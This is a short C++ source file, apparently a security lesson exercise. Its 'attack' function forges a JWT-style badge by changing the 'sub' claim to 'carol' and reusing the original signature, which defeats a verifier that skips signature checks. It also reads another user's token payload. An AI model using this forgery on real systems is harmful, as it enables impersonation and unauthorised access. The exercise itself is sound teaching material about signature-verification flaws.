// Believes: anyone called carol may do what carol may do.
#include <span>

#include "base64url_decode.hpp"
#include "base64url_encode.hpp"
#include "parse_json_object.hpp"
#include "split_token.hpp"
#include "unverified_signature.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto own = split_token(evidence.own_badge).value();
  auto claims = parse_json_object(as_text(base64url_decode(own.payload).value())).value();
  claims.set("sub", "carol");
  const std::string payload = claims.dump();
  const std::string forged = base64url_encode(std::as_bytes(std::span(payload)));

  const auto alices = split_token(evidence.alices_badge).value();
  const auto bytes = base64url_decode(alices.payload).value();
  return {.forged_badge = std::string(own.header) + "." + forged + "." + std::string(own.signature),
          .alices_payload = std::string(as_text(bytes))};
}

}  // namespace lesson
